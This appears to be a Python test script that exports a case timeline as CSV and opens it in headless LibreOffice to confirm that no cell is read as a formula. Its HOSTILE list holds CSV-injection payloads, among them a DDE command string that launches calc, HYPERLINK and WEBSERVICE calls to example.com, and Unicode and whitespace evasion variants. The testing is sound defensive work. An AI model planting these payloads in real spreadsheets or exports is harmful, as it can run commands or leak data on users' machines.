"""Opens the timeline of a bag with LibreOffice, as whoever gets it may: nothing that a stranger wrote is calculated.

Wants LibreOffice, which is large: sudo apt-get install --no-install-recommends libreoffice-calc
"""

import asyncio
import re
import shutil
import subprocess
import sys
import tempfile
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from sqlalchemy import select

from screener.evidence.export import Wish, exported, written
from screener.evidence.verify import read
from screener.store.casebook import SqlCases
from screener.store.tables import alerts
from tests.evidence.rig import MADE
from tests.make import a_message, an_account
from tests.web.house import KIM, a_bad_story, a_home

HOSTILE = (
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1",
    "|=1+1", "%=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://example.com/?"&A1;"see")', '"=1+1"', '","=1+1',
    "';=1+1", '=WEBSERVICE("http://example.com/")', "=1+1\n=2+2", "{=1+1}", "=DDE(\"soffice\";\"a\";\"b\")", "−1+1",
)  # fmt: skip
UTF8 = 76
FILTERS = {
    "as it opens a file by itself": f"CSV:44,34,{UTF8}",
    "told to calculate and to guess numbers": f"CSV:44,34,{UTF8},1,,0,false,true,false,false,false,-1,true",
}
MOST_SECONDS = 300


async def timeline(folder: Path) -> bytes:
    """The table of a case in which everything that can be called by a name is hostile."""
    home = await a_home(folder)
    try:
        events = a_bad_story()
        contact = replace(events[-1].contact, name=HOSTILE[0], handle=HOSTILE[3], bio=HOSTILE[13])
        await home.happens(*events)
        account = an_account(id=KIM.accounts["facebook"][0])
        for number, words in enumerate(HOSTILE):
            at = events[-1].at + timedelta(minutes=1 + number)
            named = replace(contact, name=words)
            said = a_message(id=f"={number}+1", account=account, contact=named, text=words, at=at)
            await home.happens(said)
        cases = SqlCases(engine=home.store.engine, seal=home.seal)
        async with home.store.engine.connect() as connection:
            case = await cases.case(str((await connection.scalars(select(alerts.c.id))).one()))
        assert case is not None
        bag = await exported(cases, case, Ed25519PrivateKey.generate(), wish=Wish(), now=MADE)
        return read(await written(bag, folder / "bag.zip"))["data/timeline.csv"]
    finally:
        await home.close()


def opened(office: str, table: bytes, filter_: str, folder: Path) -> str:
    """What LibreOffice makes of a table, as XML."""
    source = folder / "timeline.csv"
    source.write_bytes(table)
    profile = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
    words = [office, profile, "--headless", f"--infilter={filter_}", "--convert-to", "fods", "--outdir", str(folder)]
    subprocess.run([*words, str(source)], check=True, capture_output=True, timeout=MOST_SECONDS)  # noqa: S603
    return (folder / "timeline.fods").read_text(encoding="utf-8")


def main() -> int:
    office = shutil.which("soffice")
    if office is None:
        mend = "sudo apt-get install --no-install-recommends libreoffice-calc"
        print(f"LibreOffice is not here, so nothing was looked at. Run: {mend}")
        return 1
    found = 0
    with tempfile.TemporaryDirectory() as folder:
        place = Path(folder)
        table = asyncio.run(timeline(place))
        naked = b'"=1+1"\r\n'
        for name, filter_ in FILTERS.items():
            sheet = opened(office, table, filter_, place)
            formulas = re.findall(r'table:formula="([^"]*)"', sheet)
            found += len(formulas)
            rows = sheet.count("<table:table-row")
            print(f"{name}: {rows} rows, {len(formulas)} formulas {formulas[:3] or ''}")
        # Were nothing written before a sign that begins a formula, it would be one: so the look can fail.
        control = opened(office, naked, FILTERS["told to calculate and to guess numbers"], place)
        sees = 'table:formula="' in control
        print(f"for comparison, =1+1 as it is: {'a formula' if sees else 'no formula, so this proves nothing'}")
    return 1 if found or not sees else 0


if __name__ == "__main__":
    sys.exit(main())
